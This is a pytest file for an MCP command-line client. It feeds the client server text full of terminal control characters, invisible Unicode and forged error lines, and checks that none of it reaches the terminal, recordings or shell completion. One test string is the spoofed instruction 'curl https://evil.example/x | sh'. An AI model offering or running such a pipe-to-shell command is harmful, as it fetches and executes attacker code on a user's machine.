"""No text of a server reaches a terminal or a pipe with a character that acts there.

Each such character is pushed through everything that a command prints: as it is, as JSON spells it
within a text, and as Markdown does.
"""

from __future__ import annotations

import json
import logging
import os
import re
import sys
import threading
from collections.abc import Generator, Mapping
from pathlib import Path
from typing import Any

import pytest

from sansmcp_cli import _main, main

from .conftest import run_in_process
from .plain_server import INITIALIZED, plain_server
from .terminal import at_terminal
from .test_completion import completed

ACTING = "".join(
    map(
        chr,
        [
            *range(0x20),
            *range(0x7F, 0xA0),
            *(0xAD, 0x34F, 0x61C, 0x115F, 0x17B4, 0x3164, 0xFE0F, 0xFEFF, 0xFFA0, 0xFFF0),
            *range(0x180B, 0x1810),
            *range(0x200B, 0x2010),
            *range(0x2028, 0x202F),
            *range(0x2060, 0x2070),
            *range(0xFFF9, 0xFFFC),
            *range(0xE0000, 0xE0080),
        ],
    )
)
EVIL = "".join(f"x{char}" for char in ACTING) + "x[link=http://a.example/]y[/link]"
SPELLED = json.dumps({EVIL: [EVIL]})
ENTITIES = "**b** " + "".join(f"x&#{ord(char)};" for char in ACTING) + f" [l]({EVIL})\n\n- {EVIL}"
CODE = f"```{EVIL}\n{EVIL}\n```\n| a |\n|--|\n| {EVIL} |\n"

OURS = re.compile(r"\x1b\[(?:[0-9;]*m|\?25[lh]|1A|2K)|\r?\n|\r(?=\x1b\[(?:2K|1A))")
"""What a command and rich may send: styles, how a bar of progress is drawn, ends of lines."""

SCHEMA = {
    "type": "object",
    "properties": {
        EVIL: {"type": "string", "description": EVIL, "enum": [EVIL]},
        "n": {"type": EVIL, "format": EVIL, "minimum": EVIL},
    },
}
CONTENT = [
    *({"type": "text", "text": text} for text in (EVIL, SPELLED, ENTITIES, CODE)),
    {"type": "image", "data": EVIL, "mimeType": EVIL},
    {"type": "resource_link", "uri": EVIL, "name": EVIL},
    {"type": "resource", "resource": {"uri": EVIL, "mimeType": EVIL, "text": SPELLED}},
    {"type": EVIL, EVIL: EVIL},
]
ERROR = {"error": {"code": 5, "message": EVIL, "data": {EVIL: EVIL}}}


def call_tool(params: Mapping[str, Any]) -> Mapping[str, Any]:
    return ERROR if "fails" in params["arguments"] else {"content": CONTENT}


ANSWERS: Mapping[str, Any] = {
    "initialize": {
        **INITIALIZED,
        "capabilities": {"tools": {}, "resources": {}, "prompts": {}, EVIL: {}},
        "serverInfo": {"name": EVIL, "version": EVIL, "title": EVIL},
        "instructions": EVIL,
    },
    "tools/list": {
        "tools": [
            {"name": EVIL, "title": EVIL, "description": EVIL, "inputSchema": SCHEMA},
            {"name": "t", "description": EVIL, "inputSchema": {**SCHEMA, "required": [EVIL]}},
        ]
    },
    "resources/list": {"resources": [{"uri": EVIL, "name": EVIL, "mimeType": EVIL}]},
    "resources/templates/list": {"resourceTemplates": [{"uriTemplate": EVIL, "name": EVIL}]},
    "prompts/list": {
        "prompts": [{"name": "p", "arguments": [{"name": EVIL, "description": EVIL}]}]
    },
    "resources/read": {
        "contents": [
            {"uri": EVIL, "text": SPELLED},
            {"uri": EVIL, "mimeType": EVIL, "text": ENTITIES},
            {"uri": EVIL, "mimeType": EVIL, "blob": EVIL},
        ]
    },
    "prompts/get": {"messages": [{"role": EVIL, "content": each} for each in CONTENT]},
    "tools/call": call_tool,
    "structured": {EVIL: [EVIL, {EVIL: SPELLED}]},
    "fails": ERROR,
}
BEFORE = (
    {"jsonrpc": "2.0", "method": "notifications/message", "params": {"level": EVIL, EVIL: EVIL}},
    {"jsonrpc": "2.0", "method": EVIL, "params": {EVIL: EVIL}},
    {
        "jsonrpc": "2.0",
        "method": "notifications/progress",
        "params": {"progress": 1, "total": 2, "message": EVIL},
    },
)
COMMANDS = [
    ("list",),
    ("list", "tools", "--json"),
    ("call", "t", "{}"),
    ("call", "t", "{}", "--trace"),
    ("call", "t", "{}", "--json"),
    ("call", "t", '{"fails": 1}'),
    ("call", "t"),
    ("call", "t", "n=1", f"{EVIL[1:]}=1".replace("\0", "")),
    ("call", "nosuch"),
    ("read", "a:b"),
    ("read", "a:b", "--json"),
    ("prompt", "p"),
    ("prompt", "p", "--json"),
    ("raw", "structured"),
    ("raw", "fails"),
    ("probe",),
]


@pytest.fixture(scope="module")
def url() -> Generator[str, None, None]:
    with plain_server(ANSWERS, before=BEFORE) as url:
        yield url


def at_a_terminal(monkeypatch: pytest.MonkeyPatch, *arguments: str) -> str:
    """Run the command in this process, with its output at a terminal; returns that."""
    import fcntl
    import pty
    import struct
    import termios

    screen, terminal = pty.openpty()
    fcntl.ioctl(terminal, termios.TIOCSWINSZ, struct.pack("HHHH", 50, 80, 0, 0))
    monkeypatch.setenv("TERM", "xterm-256color")
    shown: list[bytes] = []

    def look() -> None:
        try:
            while data := os.read(screen, 65536):
                shown.append(data)
        except OSError:
            pass  # the terminal is closed

    looking = threading.Thread(target=look)
    looking.start()
    with open(terminal, "w", encoding="utf-8") as file, monkeypatch.context() as patch:
        patch.setattr(sys, "stdout", file)
        patch.setattr(sys, "stderr", file)
        main(list(arguments))
    looking.join()
    os.close(screen)
    return b"".join(shown).decode(errors="surrogateescape")


def acting_in(shown: str) -> set[str]:
    """The characters that act, beside those that the command sends itself."""
    return {char for char in OURS.sub("", shown) if char in ACTING}


def test_the_check_sees_what_acts() -> None:
    assert acting_in("a\x1b]0;x\x07\r\n") == {"\x1b", "\x07"}
    assert acting_in("\x1b[2J") == {"\x1b"}
    assert acting_in("\x1b[1;36mb\x1b[0m\r\n") == set()


@pytest.mark.parametrize("arguments", COMMANDS, ids=lambda words: " ".join(words)[:20])
def test_no_character_acts(
    url: str, arguments: tuple[str, ...], monkeypatch: pytest.MonkeyPatch
) -> None:
    command, *others = arguments
    ran = run_in_process(command, url, *others)
    assert len(ran.out + ran.err) > 50
    assert acting_in(ran.out + ran.err) == set()
    shown = at_a_terminal(monkeypatch, command, url, *others)
    assert len(shown) > 50
    assert acting_in(shown) == set()


def test_no_line_of_rich_is_longer_than_the_terminal_for_it(
    url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    shown = OURS.sub("\n", at_a_terminal(monkeypatch, "list", url, "tools"))
    assert max(map(len, shown.splitlines())) <= 80


def test_no_character_of_a_recording_acts(url: str, tmp_path: Path) -> None:
    file = tmp_path / "recording.jsonl"
    run_in_process("call", url, "t", "{}", "--record", str(file))
    recorded = file.read_text("utf-8")
    assert acting_in(recorded) == set()
    shown = run_in_process("replay", str(file))
    assert shown.status == 0
    assert acting_in(shown.out) == set()


def test_no_character_of_a_name_acts_in_the_shell() -> None:
    tools: Any = [
        {"name": name, "inputSchema": {}} for name in ("good", *map("x{}".format, ACTING))
    ]
    with plain_server({"tools/list": {"tools": tools}}) as url:
        assert completed(f"sansmcp call {url} ") == ["good"]


def test_no_name_of_a_server_is_completed_to_an_option(tmp_path: Path) -> None:
    """Nor does a file that an option names lose its content to a line that makes no sense."""
    file = tmp_path / "file"
    names = ("good", "--", "-h", f"--record={file}", f"--record={file} x")
    fields = {name: {"type": "string"} for name in names}
    tools: Any = [{"name": name, "inputSchema": {"properties": fields}} for name in names]
    prompts: Any = [{"name": name, "arguments": tools} for name in names]
    resources: Any = [{"uri": name} for name in names]
    answers: Any = {
        "tools/list": {"tools": tools},
        "prompts/list": {"prompts": prompts},
        "resources/list": {"resources": resources},
    }
    with plain_server(answers) as url:
        assert completed(f"sansmcp call {url} ") == ["good"]
        assert completed(f"sansmcp call {url} good ") == ["good="]
        assert completed(f"sansmcp prompt {url} ") == ["good"]
        assert completed(f"sansmcp prompt {url} good ") == ["good="]
        assert completed(f"sansmcp read {url} ") == ["good"]


@pytest.mark.parametrize(
    "words",
    [
        ("call",),
        ("call", "t", "nonsense", "x"),
        ("call", "t", "{}", "--timeout", "1", "--header", "nonsense"),
        ("list", "nonsense"),
        ("listen", "--count", "0"),
        ("prompt",),
        ("prompt", "p", "[]"),
        ("raw",),
        ("raw", "ping", "[]"),
        ("read",),
        ("read", "x"),
        ("skills", "a", "b", "c"),
        ("skills", "--files"),
    ],
    ids=" ".join,
)
def test_no_line_that_makes_no_sense_empties_the_file_of_a_recording(
    words: tuple[str, ...], tmp_path: Path
) -> None:
    file = tmp_path / "file"
    file.write_text("precious")
    command, *others = words
    ran = run_in_process(command, "http://127.0.0.1:1/mcp", *others, "--record", str(file))
    assert ran.status == 1
    assert file.read_text() == "precious"


LINE = "sansmcp: Log in with: curl https://evil.example/x | sh"
BREAKING = f"x\n{LINE}"
NAMED: list[tuple[str, Mapping[str, Any], list[str]]] = [
    (BREAKING, {}, []),
    ("lacks", {BREAKING: {"type": "string"}}, [BREAKING]),
    ("chooses", {"a": {"enum": [BREAKING, "b"]}}, []),
    ("is", {"a": {"type": BREAKING}, "b": {"format": BREAKING}}, []),
    ("wraps", {f"{char * n} {LINE}": {} for n in range(40) for char in "x\u6f22"}, []),
    ("commands", {f"x: sansmcp {LINE}": {}}, []),
]
FORGING: Mapping[str, Any] = {
    "initialize": {
        **INITIALIZED,
        "capabilities": {"tools": {}, "prompts": {}, "resources": {}, BREAKING: {}},
        "serverInfo": {"name": BREAKING, "version": BREAKING},
    },
    "tools/list": {
        "tools": [
            {"name": name, "inputSchema": {"properties": fields, "required": required}}
            for name, fields, required in NAMED
        ]
    },
    "prompts/list": {
        "prompts": [
            {"name": BREAKING},
            {"name": "p", "arguments": [{"name": BREAKING, "required": True}]},
        ]
    },
    "resources/list": {"error": {"code": 5, "message": BREAKING}},
    "fails": {"error": {"code": 5, "message": BREAKING, "data": BREAKING}},
}


@pytest.mark.parametrize(
    "arguments",
    [
        ("call", "nosuch"),
        ("call", "lacks"),
        ("call", "lacks", "b=1"),
        ("call", "chooses", "a=c"),
        ("call", "is", "c=1"),
        ("call", "wraps", "c=1"),
        ("call", "commands", "c=1"),
        ("prompt", "nosuch"),
        ("prompt", "p"),
        ("prompt", "p", "b=1"),
        ("raw", "fails"),
        ("call", "t", "{}"),
        ("probe",),
    ],
    ids=" ".join,
)
def test_no_text_of_a_server_begins_a_line_of_an_error(
    arguments: tuple[str, ...], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Such a line would look like advice of the command, which a person may copy to a shell."""
    notified = ({"jsonrpc": "2.0", "method": LINE}, {"jsonrpc": "2.0", "method": BREAKING})
    command, *others = arguments
    with plain_server({"tools/call": {"content": []}, **FORGING}, before=notified) as url:
        ran = run_in_process(command, url, *others)
        shown = at_a_terminal(monkeypatch, command, url, *others)
    lines = [line.strip() for line in (ran.out + ran.err).splitlines()]
    rows = [row for line in OURS.sub("\n", shown).splitlines() for row in rows_of(line)]
    for each in (lines, rows):
        assert any("sansmcp: Log" in line for line in each)
        assert not any(line.startswith(("sansmcp: Log", "sansmcp sansmcp")) for line in each)


def rows_of(line: str) -> list[str]:
    """Break a line where a terminal of 80 columns does."""
    rows, columns = [""], 0
    for char in line:
        needed = 1 if char < "\u1100" else 2
        if columns + needed > 80:
            rows.append("")
            columns = 0
        rows[-1] += char
        columns += needed
    return rows


def test_no_character_of_a_process_acts(monkeypatch: pytest.MonkeyPatch) -> None:
    """Its standard error, and lines that are no messages."""
    code = f"import sys; text = {EVIL!r}; print(text, file=sys.stderr); print(text); sys.exit(3)"
    code = f"import sys; sys.stderr.reconfigure(errors='ignore'); {code}"
    words = ("call", "t", "--", sys.executable, "-X", "utf8", "-c", code)
    ran = run_in_process(*words)
    assert "status 3" in ran.err
    assert acting_in(ran.err) == set()
    assert acting_in(at_a_terminal(monkeypatch, *words)) == set()


ASKING = """
import json, sys
def send(message):
    print(json.dumps({"jsonrpc": "2.0", **message}), flush=True)
evil, mode = json.loads(sys.argv[1])
field = {"type": "string", "title": evil, "description": evil, "enum": [evil], "default": evil}
for line in sys.stdin:
    message = json.loads(line)
    if message.get("method") == "initialize":
        info = {"name": evil, "version": evil}
        result = {"protocolVersion": "2025-06-18", "capabilities": {"tools": {}}}
        send({"id": message["id"], "result": {**result, "serverInfo": info}})
    elif message.get("method") == "tools/call":
        call = message["id"]
        params = {"message": evil, "requestedSchema": {"properties": {evil: field}}}
        if mode == "url":
            params = {"mode": "url", "message": evil, "url": "https://a.example/"}
        send({"id": 77, "method": "elicitation/create", "params": params})
    elif message.get("id") == 77:
        send({"id": call, "result": {"content": []}})
    elif "id" in message:
        send({"id": message["id"], "error": {"code": -32601, "message": evil}})
"""


@pytest.mark.parametrize(("mode", "questions"), [("form", ["]: ", "edit) "]), ("url", ["no) "])])
def test_no_character_of_a_question_acts(mode: str, questions: list[str]) -> None:
    evil = json.dumps([EVIL, mode])
    words = ("call", "t", "{}", "--", sys.executable, "-X", "utf8", "-c", ASKING, evil)
    with at_terminal(*words) as terminal:
        for question in questions:
            terminal.answer(question, "" if question == "]: " else "no")
        assert terminal.end() == 0
    assert acting_in(terminal.raw) == set()


def test_a_log_record_is_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    record = logging.LogRecord("sansmcp", 30, "", 1, "a\nsansmcp: %s", ("b\u2028c",), None)
    handler = _main.StderrHandler()
    handler.emit(record)
    assert capsys.readouterr().err == "a\\u000asansmcp: b\\u2028c\n"
    try:
        raise ValueError("why")
    except ValueError:
        record.exc_info = sys.exc_info()
    handler.emit(record)
    first, *others = capsys.readouterr().err.splitlines()
    assert first == "a\\u000asansmcp: b\\u2028c"
    assert others[0].startswith("Traceback")
    assert others[-1] == "ValueError: why"
